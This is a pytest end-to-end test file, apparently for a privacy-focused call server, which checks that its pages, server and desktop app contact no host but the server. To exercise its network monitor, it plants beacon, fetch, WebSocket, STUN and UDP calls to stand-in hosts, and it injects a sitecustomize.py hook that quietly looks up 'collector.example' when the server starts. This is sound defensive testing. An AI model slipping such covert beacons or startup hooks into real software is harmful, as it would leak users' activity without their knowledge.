"""Server, pages and a desktop app in a network of their own: no packet goes to anybody but the server.

What is planted in each of them is found.
"""

from __future__ import annotations

import asyncio
import contextlib
import os
import subprocess
import sys
from collections.abc import AsyncIterator, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from playwright.async_api import Browser, BrowserContext, Page, expect

from tests.e2e.browser import chromium, eventually, join
from tests.e2e.ops import address, name_operators, operator
from tests.e2e.serving import ROOT, Server, serving
from tests.e2e.test_policy_changes import publish
from tests.e2e.wire import Wire, watched
from tests.private_network import lead_out, needs_root, private_network

pytestmark = [pytest.mark.promise, needs_root, pytest.mark.timeout(240)]
STRANGER = "203.0.113.9"
TEXTS = (
    "privacy",
    "rights",
    "privacy.json",
    "policy/status",
    "guarantee?nonce=pick-one-yourself",
    ".well-known/jwks.json",
)
CONSOLE = ("", "live", "sessions", "failures", "person", "guarantee", "ledger", "access")
# What this browser asks its maker by itself, when it likes, and no flag of its own stops: whether somebody is
# signed in to it, what kind of form it sees, what it may guess of a page, whether it is up to date. By their
# names alone: a rule for the domain would hide WebSockets, which no list of a page's requests has. That no
# page asks these is looked at in the pages.
ITS_MAKERS = (
    "accounts.google.com",
    "content-autofill.googleapis.com",
    "optimizationguide-pa.googleapis.com",
    "update.googleapis.com",
)
FLAG = "--host-resolver-rules=" + ", ".join(f"MAP {name} ~NOTFOUND" for name in ITS_MAKERS)
A_MAKER = ITS_MAKERS[1]

PLANTS = {
    "image": (f"new Image().src = 'http://{STRANGER}/pixel.gif'", "port 80"),
    "beacon": (f"navigator.sendBeacon('http://{STRANGER}:8080/', 'hello')", "port 8080"),
    "name": ("fetch('http://tracker.example/').catch(() => 0)", "tracker.example"),
    "socket": (f"void new WebSocket('ws://{STRANGER}:8081/')", "port 8081"),
    "socket of the browser's maker": ("void new WebSocket('ws://any.google.com/')", "any.google.com"),
}
ASKED_BY_THE_PAGE = "performance.getEntriesByType('resource').map((one) => one.name)"
STUN = f"""
async () => {{
  const peer = new RTCPeerConnection({{ iceServers: [{{ urls: 'stun:{STRANGER}:3478' }}] }});
  peer.createDataChannel('any');
  await peer.setLocalDescription();
}}
"""
LOOKS_UP = """
import socket, sys, threading
if "serve" in sys.argv:
    def look():
        try:
            socket.getaddrinfo("collector.example", 443)
        except OSError:
            pass
    threading.Thread(target=look, daemon=True).start()
"""


@dataclass
class Scene:
    """A server, a browser, what is sent from before their start, and whom pages ask."""

    server: Server
    wire: Wire
    browser: Browser
    asked: set[str] = field(default_factory=set)

    async def context(self, **options: Any) -> BrowserContext:
        context = await self.browser.new_context(**options)
        self.listen(context)
        return context

    def listen(self, context: BrowserContext) -> None:
        context.on("request", lambda request: self.ask([request.url]))

    def ask(self, urls: list[str]) -> None:
        self.asked |= {urlsplit(url).hostname or "" for url in urls if not url.startswith(("blob:", "data:"))}


@pytest.fixture
def network() -> Iterator[None]:
    with private_network():
        lead_out()
        yield


@contextlib.asynccontextmanager
async def alone(
    directory: Path, environment: dict[str, str] | None = None
) -> AsyncIterator[tuple[Server, Wire]]:
    """A server in this network, and what is sent from before its start until after its end."""
    ports: set[int] = set()
    with watched(ports) as wire:
        async with serving(directory, environment=environment) as server:
            ports |= {server.http_port, *server.udp_ports}
            yield server, wire


@pytest.fixture
async def scene(tmp_path: Path, network: None) -> AsyncIterator[Scene]:
    """With a policy and operators."""
    publish(tmp_path)
    (tmp_path / "config.toml").write_text('[policy]\nfile = "policy.toml"\n')
    await asyncio.to_thread(name_operators, tmp_path)
    async with alone(tmp_path) as (server, wire), chromium(FLAG) as browser:
        yield Scene(server, wire, browser)


async def is_found(wire: Wire, words: str) -> None:
    """Until a stranger of whom that is told has been sent something."""

    async def told() -> list[str]:
        return wire.strangers()

    await eventually(told, lambda seen: any(words in one for one in seen))


async def are_in_a_call(scene: Scene) -> None:
    """Two at the page and a desktop app, with sound and video; then the pages show what is kept of them."""
    server = scene.server
    words = [sys.executable, "-m", "tests.e2e.stranger", server.ws_url, server.token("garden", "desk")]
    ada = await join(scene.browser, server.url, "Ada", "garden")
    app = subprocess.Popen(words, cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL)
    try:
        assert app.stdout is not None
        assert (await asyncio.to_thread(app.stdout.readline)).strip() == b"in"
        alan = await join(scene.browser, server.url, "Alan", "garden")
        await asyncio.gather(ada.sees(2), ada.hears(2), alan.sees(2), alan.hears(2))
    finally:
        app.kill()
        app.communicate()
    for one in (ada, alan):
        await one.leave()
        scene.ask(await one.page.evaluate(ASKED_BY_THE_PAGE))


async def look_around(scene: Scene) -> None:
    page = await (await scene.context()).new_page()
    for path in ("", *TEXTS):
        answer = await page.goto(f"{scene.server.url}/{path}")
        assert answer is not None
        assert answer.status == 200, path
    page = await operator(scene.browser, scene.server, "priya", "Audit")
    scene.listen(page.context)
    for path in CONSOLE:
        await page.goto(address(scene.server, path))
        await expect(page.get_by_role("heading", level=1)).to_be_visible()


async def at_the_page(scene: Scene, **options: Any) -> Page:
    page = await (await scene.context(**options)).new_page()
    await page.goto(scene.server.url)
    return page


async def test_nobody_but_the_server_is_sent_anything(scene: Scene) -> None:
    await are_in_a_call(scene)
    await look_around(scene)
    await scene.browser.close()
    await scene.server.stop()
    assert scene.wire.strangers() == []
    assert scene.asked == {"127.0.0.1"}
    assert scene.wire.looked_at > 1000, "a call went by"


async def test_what_is_planted_in_a_page_is_found(scene: Scene) -> None:
    """And the page's own rules keep it in, as far as a browser lets rules do that."""
    page = await at_the_page(scene)
    for script, _ in PLANTS.values():
        await page.evaluate(script)
    await page.reload()
    assert scene.wire.strangers() == []
    page = await at_the_page(scene, bypass_csp=True)
    for script, words in PLANTS.values():
        await page.evaluate(script)
        await is_found(scene.wire, words)
    await page.evaluate(STUN)
    await is_found(scene.wire, "port 3478")
    await page.evaluate(f"fetch('https://{A_MAKER}/').catch(() => 0)")
    assert A_MAKER in scene.asked, "what a page asks the browser's maker is seen in the page"


async def test_what_is_planted_in_the_server_is_found(tmp_path: Path, network: None) -> None:
    (tmp_path / "sitecustomize.py").write_text(LOOKS_UP)
    async with alone(tmp_path, {**os.environ, "PYTHONPATH": str(tmp_path)}) as (_, wire):
        await is_found(wire, "collector.example")


@pytest.mark.parametrize(
    ("host", "port", "words"),
    [
        (STRANGER, 9, f"UDP to {STRANGER}, port 9, by net0"),
        ("2001:db8:9::9", 9, "UDP to 2001:db8:9::9, port 9, by net0"),
        ("224.0.0.251", 5353, "UDP to 224.0.0.251, port 5353, by net0"),
        ("127.0.0.53", 53, "UDP to 127.0.0.53, port 53, by lo"),
    ],
)
async def test_what_is_planted_in_an_app_is_found(network: None, host: str, port: int, words: str) -> None:
    """Elsewhere in the world, in the neighbourhood, and on this machine."""
    family = "AF_INET6" if ":" in host else "AF_INET"
    program = f"from socket import *; socket({family}, SOCK_DGRAM).sendto(b'hello', ('{host}', {port}))"
    with watched(()) as wire:
        await asyncio.to_thread(subprocess.run, [sys.executable, "-c", program], check=True)
        await is_found(wire, words)
